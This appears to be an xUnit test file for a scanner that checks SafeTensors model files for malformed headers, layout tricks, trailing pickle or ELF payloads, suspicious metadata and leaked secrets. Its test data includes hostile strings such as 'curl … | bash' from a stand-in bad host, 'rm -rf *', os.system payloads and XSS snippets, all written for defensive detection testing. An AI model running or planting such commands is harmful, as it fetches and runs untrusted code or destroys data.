using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Linq;
using System.Text;
using ModelSecurity.Analysis;
using ModelSecurity.Formats;
using Xunit;

namespace ModelSecurity.Tests;

public class SafeTensorsReaderTests
{
    private static ModelScanResult ScanFile(byte[] bytes, string name = "model.safetensors") => Scan.Bytes(name, bytes);

    private static ModelScanResult ScanBuilder(SafeTensorsBuilder builder) => ScanFile(builder.Build());

    private static void AssertClean(ModelScanResult result)
    {
        Assert.Equal(ModelFormat.SafeTensors, result.Format);
        Assert.True(result.Verdict == ScanVerdict.Clean, string.Join(Environment.NewLine, result.Findings));
    }

    private static ModelFinding AssertOnly(ModelScanResult result, string ruleId)
    {
        Assert.Equal(ModelFormat.SafeTensors, result.Format);
        Assert.True(result.Findings.All(f => f.RuleId == ruleId), string.Join(Environment.NewLine, result.Findings));
        Assert.NotEmpty(result.Findings);
        return result.Findings[0];
    }

    private static SafeTensorsBuilder Benign() => new SafeTensorsBuilder()
        .Metadata("format", "pt")
        .Tensor("embed.weight", "F16", 8, 4)
        .Tensor("layer.0.weight", "BF16", 4, 4)
        .Tensor("layer.0.bias", "F32", 4);

    [Fact]
    public void ReferenceDocTestFile_IsClean()
    {
        // tensor.rs doc-test: 84 bytes.
        byte[] header = Encoding.ASCII.GetBytes("{\"test\":{\"dtype\":\"I32\",\"shape\":[2,2],\"data_offsets\":[0,16]}}");
        byte[] file = new byte[8 + header.Length + 16];
        file[0] = (byte)header.Length;
        header.CopyTo(file, 8);

        ModelScanResult result = ScanFile(file);

        AssertClean(result);
        Assert.Equal(84, file.Length);
        Assert.Equal(1, result.Metadata["TensorCount"]);
        Assert.Equal(4L, result.Metadata["ParameterCount"]);
        Assert.Equal(new[] { "I32" }, (string[])result.Metadata["Dtypes"]!);
        Assert.Equal(60L, result.Metadata["HeaderLength"]);
        Assert.Equal(16L, result.Metadata["DataLength"]);
        Assert.False(result.Metadata.Contains("SafeTensorsMetadata"));
    }

    [Fact]
    public void BenignFile_IsClean_WithMetadata()
    {
        ModelScanResult result = ScanBuilder(Benign().Metadata("description", new string('x', 300)));

        AssertClean(result);
        Assert.Equal(3, result.Metadata["TensorCount"]);
        Assert.Equal(32L + 16 + 4, result.Metadata["ParameterCount"]);
        Assert.Equal(new[] { "BF16", "F16", "F32" }, (string[])result.Metadata["Dtypes"]!);
        string[] metadata = (string[])result.Metadata["SafeTensorsMetadata"]!;
        Assert.Equal("format=pt", metadata[0]);
        Assert.Equal("description=".Length + 200 + 1, metadata[1].Length);
    }

    [Theory]
    [InlineData("BOOL", 3)]
    [InlineData("U8", 3)]
    [InlineData("I8", 3)]
    [InlineData("F8_E5M2", 3)]
    [InlineData("F8_E4M3", 3)]
    [InlineData("F8_E8M0", 3)]
    [InlineData("F8_E4M3FNUZ", 3)]
    [InlineData("F8_E5M2FNUZ", 3)]
    [InlineData("I16", 3)]
    [InlineData("U16", 3)]
    [InlineData("F16", 3)]
    [InlineData("BF16", 3)]
    [InlineData("I32", 3)]
    [InlineData("U32", 3)]
    [InlineData("F32", 3)]
    [InlineData("F64", 3)]
    [InlineData("I64", 3)]
    [InlineData("U64", 3)]
    [InlineData("C64", 3)]
    [InlineData("F4", 4)]
    [InlineData("F6_E2M3", 4)]
    [InlineData("F6_E3M2", 4)]
    public void EveryDtype_IsClean(string dtype, long elements)
    {
        AssertClean(ScanBuilder(new SafeTensorsBuilder().Tensor("t", dtype, elements).Tensor("u", "U8", 1)));
    }

    [Fact]
    public void SubByteDtype_WithOddBits_IsLayout()
    {
        // 3 F4 elements are 12 bits: the reference refuses a misaligned slice.
        var builder = new SafeTensorsBuilder().Raw("t", "F4", new long[] { 3 }, 0, 2);

        ModelFinding finding = AssertOnly(ScanBuilder(builder), RuleIds.SafeTensorsLayout);
        Assert.Contains("not a whole number of bytes", finding.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void EmptyAndScalarTensors_AreClean()
    {
        var builder = new SafeTensorsBuilder()
            .Tensor("empty", "F32", 0, 16)
            .Tensor("scalar", "F32")
            .Tensor("empty2", "F16", 4, 0)
            .Tensor("w", "F32", 2);

        ModelScanResult result = ScanBuilder(builder);

        AssertClean(result);
        Assert.Equal(3L, result.Metadata["ParameterCount"]);
    }

    [Fact]
    public void ShardedCheckpoint_EachShard_IsClean()
    {
        byte[] first = new SafeTensorsBuilder().Metadata("format", "pt").Tensor("model.layers.0.w", "BF16", 16, 16).Tensor("model.layers.1.w", "BF16", 16, 16).Build();
        byte[] second = new SafeTensorsBuilder().Metadata("format", "pt").Tensor("model.layers.2.w", "BF16", 16, 16).Tensor("lm_head.weight", "BF16", 32, 16).Build();

        AssertClean(ScanFile(first, "model-00001-of-00002.safetensors"));
        ModelScanResult result = ScanFile(second, "model-00002-of-00002.safetensors");
        AssertClean(result);
        Assert.Equal(768L, result.Metadata["ParameterCount"]);
    }

    [Fact]
    public void TensorsOutOfHeaderOrder_ButTilingTheData_AreClean()
    {
        var builder = new SafeTensorsBuilder()
            .Raw("b", "F32", new long[] { 2 }, 8, 16)
            .Raw("a", "F32", new long[] { 2 }, 0, 8);

        AssertClean(ScanBuilder(builder));
    }

    // ---- MS-ST-001: malformed headers, each with what the reference accepts.

    public static IEnumerable<object[]> MalformedHeaders()
    {
        const string Good = "{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}";
        yield return new object[] { "{\"t\":" + Good + ",}", "not valid JSON" };
        yield return new object[] { "{\"t\":" + Good + "} {}", "not valid JSON" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":[1]}}", "no data_offsets" };
        yield return new object[] { "{\"t\":{\"shape\":[1],\"data_offsets\":[0,4]}}", "no dtype" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"data_offsets\":[0,4]}}", "no shape" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F128\",\"shape\":[1],\"data_offsets\":[0,4]}}", "unknown dtype" };
        yield return new object[] { "{\"t\":{\"dtype\":\"f32\",\"shape\":[1],\"data_offsets\":[0,4]}}", "unknown dtype" };
        yield return new object[] { "{\"t\":{\"dtype\":32,\"shape\":[1],\"data_offsets\":[0,4]}}", "not a string" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":[-1],\"data_offsets\":[0,4]}}", "not a non-negative" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":[1.0],\"data_offsets\":[0,4]}}", "not a non-negative" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":[18446744073709551616],\"data_offsets\":[0,4]}}", "not a non-negative" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":\"1\",\"data_offsets\":[0,4]}}", "not an array" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4,8]}}", "not 2" };
        yield return new object[] { "{\"t\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[-4,0]}}", "not a non-negative" };
        yield return new object[] { "{\"t\":[1,2,3]}", "not an object" };
        yield return new object[] { "{\"__metadata__\":{\"a\":1},\"t\":" + Good + "}", "not a string" };
        yield return new object[] { "{\"__metadata__\":{\"a\":{\"b\":\"c\"}},\"t\":" + Good + "}", "not a string" };
        yield return new object[] { "{\"__metadata__\":[\"a\"],\"t\":" + Good + "}", "not a map" };
    }

    [Theory]
    [MemberData(nameof(MalformedHeaders))]
    public void MalformedHeader_IsInconclusive(string header, string reason)
    {
        ModelScanResult result = ScanFile(SafeTensorsBuilder.File(header, 4));

        ModelFinding finding = AssertOnly(result, RuleIds.SafeTensorsMalformed);
        Assert.Equal(ScanVerdict.Inconclusive, result.Verdict);
        Assert.Contains(reason, finding.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void MalformedHeaders_BenignTwin_IsClean()
    {
        // Unknown fields are ignored by serde; null metadata is None; whitespace before '}' is JSON.
        AssertClean(ScanFile(SafeTensorsBuilder.File("{\"__metadata__\":null, \"t\" : {\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4],\"extra\":{\"x\":[1]}} }", 4)));
    }

    [Fact]
    public void InvalidUtf8Header_IsInconclusive()
    {
        byte[] file = SafeTensorsBuilder.File("{\"__metadata__\":{\"a\":\"XX\"},\"t\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}", 4);
        int at = Array.IndexOf(file, (byte)'X');
        file[at] = 0xC3;
        file[at + 1] = 0x28;

        ModelFinding finding = AssertOnly(ScanFile(file), RuleIds.SafeTensorsMalformed);
        Assert.Contains("UTF-8", finding.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void ShapeWhoseSizeOverflows_IsLayout()
    {
        var builder = new SafeTensorsBuilder().Entry("t", "{\"dtype\":\"F32\",\"shape\":[4294967296,4294967296],\"data_offsets\":[0,4]}", 4);

        ModelFinding finding = AssertOnly(ScanBuilder(builder), RuleIds.SafeTensorsLayout);
        Assert.Contains("overflows", finding.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void HeaderLengthPastTheFile_IsNeverClean_AndBounded()
    {
        byte[] file = SafeTensorsBuilder.File("{\"t\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}", 4);
        BitConverter.TryWriteBytes(file.AsSpan(0, 8), 99_000_000UL);

        ModelScanResult result = ScanFile(file);

        Assert.NotEqual(ScanVerdict.Clean, result.Verdict);
        Assert.True(result.BytesRead <= file.Length);
    }

    [Fact]
    public void HeaderLengthOverTheCap_IsNeverClean_AndBounded()
    {
        using var stream = new SparseMemoryStream();
        var header = new byte[16];
        BitConverter.TryWriteBytes(header.AsSpan(0, 8), 200_000_000UL);
        header[8] = (byte)'{';
        stream.Write(header);
        stream.Position = 8 + 200_000_000 - 1;
        stream.WriteByte((byte)'}');
        stream.SetLength(300_000_000);
        stream.Position = 0;

        ModelScanResult result = ModelScanner.Scan("huge.safetensors", stream);

        Assert.NotEqual(ScanVerdict.Clean, result.Verdict);
        Assert.True(result.BytesRead < 1024 * 1024, $"{result.BytesRead} bytes read");
    }

    [Fact]
    public void DeepJsonNesting_IsInconclusive_Quickly()
    {
        int depth = 100_000;
        string header = "{\"t\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4],\"x\":" + new string('[', depth) + new string(']', depth) + "}}";
        var watch = Stopwatch.StartNew();

        ModelScanResult result = ScanFile(SafeTensorsBuilder.File(header, 4));

        AssertOnly(result, RuleIds.SafeTensorsMalformed);
        Assert.True(watch.Elapsed < HangGuard.Limit, $"{watch.ElapsedMilliseconds} ms");
    }

    [Fact]
    public void MillionTensors_WithinTheCap_FinishBounded()
    {
        const int Count = 1_000_000;
        var json = new StringBuilder(Count * 64);
        json.Append('{');
        for (int i = 0; i < Count; i++)
        {
            json.Append(i == 0 ? string.Empty : ",").Append("\"t").Append(i).Append("\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[").Append(i).Append(',').Append(i + 1).Append("]}");
        }

        json.Append('}');
        var watch = Stopwatch.StartNew();

        ModelScanResult result = ScanFile(SafeTensorsBuilder.File(json.ToString(), Count));

        AssertClean(result);
        Assert.Equal(Count, result.Metadata["TensorCount"]);
        Assert.True(watch.Elapsed < HangGuard.Limit, $"{watch.ElapsedMilliseconds} ms");
    }

    [Fact]
    public void MillionTensors_AliasingOneRegion_ReportsAFewProblems()
    {
        const int Count = 1_000_000;
        var json = new StringBuilder(Count * 64);
        json.Append('{');
        for (int i = 0; i < Count; i++)
        {
            json.Append(i == 0 ? string.Empty : ",").Append("\"t").Append(i).Append("\":{\"dtype\":\"U8\",\"shape\":[4],\"data_offsets\":[0,4]}");
        }

        json.Append('}');

        ModelScanResult result = ScanFile(SafeTensorsBuilder.File(json.ToString(), 4));

        ModelFinding finding = AssertOnly(result, RuleIds.SafeTensorsLayout);
        Assert.Single(result.Findings);
        Assert.Contains("999,989 more problems", finding.Detail, StringComparison.Ordinal);
    }

    // ---- MS-ST-002: layout.

    public static IEnumerable<object[]> LayoutBreaks()
    {
        long[] two = { 2 };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 4, 12)).Build(), "begins at byte 4" };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 0, 8).Raw("b", "F32", two, 12, 20)).Build(), "4 bytes between tensors" };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 0, 8).Raw("b", "F32", two, 4, 12)).Build(), "overlaps" };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 0, 8).Raw("b", "F32", two, 0, 8)).Build(), "overlaps" };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 0, 12)).Build(), "needs 8 bytes" };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 0, 8).Raw("b", "F32", new long[] { 0 }, 8, 4)).Build(), "before it begins" };
        yield return new object[] { (new SafeTensorsBuilder { DataLength = 4 }.Raw("a", "F32", two, 0, 8)).Build(), "truncated" };
        yield return new object[] { (new SafeTensorsBuilder { DataLength = 12 }.Raw("a", "F32", two, 0, 8)).Build(), "follow the last tensor, zeros" };
        yield return new object[] { (new SafeTensorsBuilder().Raw("a", "F32", two, 0, 8).Raw("a", "F32", two, 8, 16)).Build(), "repeats the tensor \"a\"" };
        yield return new object[] { (new SafeTensorsBuilder().Metadata("k", "1").Metadata("k", "2").Tensor("a", "F32", 2)).Build(), "repeats the __metadata__ key \"k\"" };
        yield return new object[] { (new SafeTensorsBuilder().Entry("a", "{\"dtype\":\"F32\",\"dtype\":\"F16\",\"shape\":[2],\"data_offsets\":[0,4]}", 4)).Build(), "field \"dtype\" of tensor \"a\"" };
    }

    [Theory]
    [MemberData(nameof(LayoutBreaks))]
    public void LayoutBreak_IsSuspicious(byte[] file, string expected)
    {
        ModelScanResult result = ScanFile(file);

        ModelFinding finding = AssertOnly(result, RuleIds.SafeTensorsLayout);
        Assert.Equal(ScanVerdict.Suspicious, result.Verdict);
        Assert.Contains(expected, finding.Detail, StringComparison.Ordinal);
    }

    [Fact]
    public void DuplicateMetadataKey_InHeader_IsSeenEvenThoughJsonDocumentHidesIt()
    {
        var builder = new SafeTensorsBuilder().Metadata("format", "pt").Metadata("format", "pt").Tensor("a", "F32", 1);

        AssertOnly(ScanBuilder(builder), RuleIds.SafeTensorsLayout);
    }

    [Fact]
    public void LayoutBreaks_BenignTwin_IsClean()
    {
        long[] two = { 2 };
        AssertClean(ScanBuilder(new SafeTensorsBuilder().Raw("a", "F32", two, 0, 8).Raw("b", "F32", two, 8, 16).Metadata("k", "1").Metadata("j", "2")));
    }

    [Theory]
    [InlineData(new byte[] { 0x50, 0x4B, 0x03, 0x04, 0x14, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0 }, "zip")]
    [InlineData(new byte[] { 0x80, 0x04, 0x95, 0x10, 0, 0, 0, 0, 0, 0, 0, 0x8C, 0x02, 0x6F, 0x73, 0x94 }, "pickle")]
    [InlineData(new byte[] { 0x80, 0x02, 0x63, 0x6F, 0x73, 0x0A, 0x73, 0x79, 0x73, 0x74, 0x65, 0x6D, 0x0A, 0x71, 0x00, 0x2E }, "pickle")]
    [InlineData(new byte[] { 0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0 }, "ELF")]
    [InlineData(new byte[] { 0xDE, 0xAD, 0xBE, 0xEF }, "DE AD BE EF")]
    public void TrailingBytes_AreNamed(byte[] trailing, string expected)
    {
        var builder = Benign();
        builder.Trailing = trailing;

        ModelFinding finding = AssertOnly(ScanBuilder(builder), RuleIds.SafeTensorsLayout);
        Assert.Contains(expected, finding.Detail, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("follow the last tensor", finding.Detail, StringComparison.Ordinal);
    }

    // ---- MS-ST-003: metadata content.

    [Theory]
    [InlineData("http://evil.com/exfiltrate", "a URL")]
    [InlineData("see https://example.org/x", "a URL")]
    [InlineData("ftp://files.example/payload", "a URL")]
    [InlineData("file:///etc/passwd", "a URL")]
    [InlineData("import os; os.system('echo pwned')", "Python or shell code")]
    [InlineData("import subprocess", "Python or shell code")]
    [InlineData("__import__('os').popen('id')", "Python or shell code")]
    [InlineData("exec(open('x').read())", "Python or shell code")]
    [InlineData("eval(x)", "Python or shell code")]
    [InlineData("rm -rf * && echo done", "Python or shell code")]
    [InlineData("chmod 777 /tmp/malicious", "Python or shell code")]
    [InlineData("wget http://bad.com/script.sh", "Python or shell code")]
    [InlineData("curl -s https://bad.com/x | bash", "Python or shell code")]
    [InlineData("<script>alert('XSS')</script>", "HTML or JavaScript")]
    [InlineData("click javascript:alert(1)", "HTML or JavaScript")]
    [InlineData("<img src=x onerror=alert(1)>", "HTML or JavaScript")]
    [InlineData("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73", "(escape-encoded)")]
    [InlineData("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=", "(base64-encoded)")]
    [InlineData("payload PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== end", "(base64-encoded)")]
    public void MetadataContent_IsSuspicious(string value, string expected)
    {
        ModelScanResult result = ScanBuilder(Benign().Metadata("note", value));

        ModelFinding finding = AssertOnly(result, RuleIds.SafeTensorsMetadataContent);
        Assert.Equal(ScanVerdict.Suspicious, result.Verdict);
        Assert.Contains(expected, finding.Detail, StringComparison.Ordinal);
        Assert.Equal("__metadata__[\"note\"]", finding.Location);
    }

    [Fact]
    public void CodeInAMetadataKey_IsSuspicious()
    {
        AssertOnly(ScanBuilder(Benign().Metadata("import os; os.system('id')", "x")), RuleIds.SafeTensorsMetadataContent);
    }

    [Theory]
    [InlineData("pt")]
    [InlineData("A small transformer model for text classification")]
    [InlineData("1.2.3")]
    [InlineData("v1.45")]
    [InlineData("94.5%")]
    [InlineData("The evaluation of this model was done on imports and exports data")]
    [InlineData("meta-llama/Llama-2-7b-hf")]
    [InlineData("{\"lora_alpha\": 16, \"r\": 8, \"target_modules\": [\"q_proj\", \"v_proj\"]}")]
    [InlineData("\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57\\x6f\\x72\\x6c\\x64")]
    [InlineData("c2FmZSBiYXNlNjQgdGV4dCBoZXJl")]
    [InlineData("sk-short")]
    [InlineData("hf_transfer")]
    public void BenignMetadata_IsClean(string value)
    {
        AssertClean(ScanBuilder(Benign().Metadata("note", value)));
    }

    // ---- MS-ST-004: secrets, redacted.

    [Theory]
    [InlineData("hf_abcdefghijklmnopqrstuvwxyzABCDEFGH", "Hugging Face", "hf_a…")]
    [InlineData("token sk-proj-abcdefghijklmnopqrstuvwxyz012345", "OpenAI", "sk-p…")]
    [InlineData("ghp_abcdefghijklmnopqrstuvwxyz0123456789", "GitHub", "ghp_…")]
    [InlineData("github_pat_11ABCDEFG0123456789_abcdefghijklmnop", "GitHub", "gith…")]
    [InlineData("AKIAIOSFODNN7EXAMPLE", "AWS", "AKIA…")]
    [InlineData("xoxb-1234567890-abcdefghij", "Slack", "xoxb…")]
    [InlineData("AIzaSyA-abcdefghijklmnopqrstuvwxyz01234", "Google", "AIza…")]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nMIIEow...\n-----END RSA PRIVATE KEY-----", "private key", "BEGIN RSA PRIVATE KEY")]
    [InlineData("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----", "private key", "OPENSSH")]
    public void Secret_IsSuspicious_AndRedacted(string value, string kind, string shown)
    {
        ModelScanResult result = ScanBuilder(Benign().Metadata("auth", value));

        ModelFinding finding = AssertOnly(result, RuleIds.SafeTensorsSecret);
        Assert.Equal(ScanVerdict.Suspicious, result.Verdict);
        Assert.Contains(kind, finding.Detail, StringComparison.Ordinal);
        Assert.Contains(shown, finding.Detail, StringComparison.Ordinal);
        Assert.DoesNotContain("abcdefghijklmnop", finding.Detail, StringComparison.Ordinal);
        Assert.DoesNotContain("IOSFODNN7", finding.Detail, StringComparison.Ordinal);
        Assert.DoesNotContain(value, string.Join(" ", result.Findings.Select(f => f.Detail)), StringComparison.Ordinal);
    }

    // ---- Header-only reading.

    [Fact]
    public void Sparse8GiBFile_ReadsOnlyTheHeader()
    {
        var builder = new SafeTensorsBuilder().Metadata("format", "pt");
        for (int i = 0; i < 300; i++)
        {
            builder.Tensor($"model.layers.{i}.weight", "BF16", 4096, 3500);
        }

        using var stream = new SparseMemoryStream();
        builder.WriteSparse(stream);
        stream.Position = 0;
        Assert.True(stream.Length > 8L * 1024 * 1024 * 1024, $"{stream.Length} bytes");

        ModelScanResult result = ModelScanner.Scan("big.safetensors", stream);

        AssertClean(result);
        Assert.True(result.BytesRead < 16 * 1024 * 1024, $"{result.BytesRead} bytes read");
        Assert.True(stream.AllocatedBytes < 1024 * 1024);
        Assert.Equal(300, result.Metadata["TensorCount"]);
    }

    [Fact]
    public void Sparse8GiBFile_WithTrailingPickle_ReadsOnlyTheHeaderAndTheTail()
    {
        var builder = new SafeTensorsBuilder().Tensor("w", "F32", 1L << 31);
        using var stream = new SparseMemoryStream();
        builder.WriteSparse(stream);
        stream.Position = stream.Length;
        stream.Write(new byte[] { 0x80, 0x04, 0x95, 0x10, 0, 0, 0, 0, 0, 0, 0, 0x8C, 0x02, 0x6F, 0x73, 0x94, 0x2E });
        stream.Position = 0;

        ModelScanResult result = ModelScanner.Scan("big.safetensors", stream);

        ModelFinding finding = AssertOnly(result, RuleIds.SafeTensorsLayout);
        Assert.Contains("pickle", finding.Detail, StringComparison.OrdinalIgnoreCase);
        Assert.True(result.BytesRead < 1024 * 1024, $"{result.BytesRead} bytes read");
    }

    [Fact]
    public void SafeTensorsInsideAZip_IsRead()
    {
        byte[] inner = new SafeTensorsBuilder().Metadata("url", "http://evil.example/x").Tensor("w", "F32", 2).Build();
        byte[] zip = ZipBuilder.StoredZip(("model/model.safetensors", inner));

        ModelScanResult result = ScanFile(zip, "model.zip");

        ModelFinding finding = Assert.Single(result.Findings, f => f.RuleId == RuleIds.SafeTensorsMetadataContent);
        Assert.StartsWith("model/model.safetensors", finding.Location, StringComparison.Ordinal);
    }
}
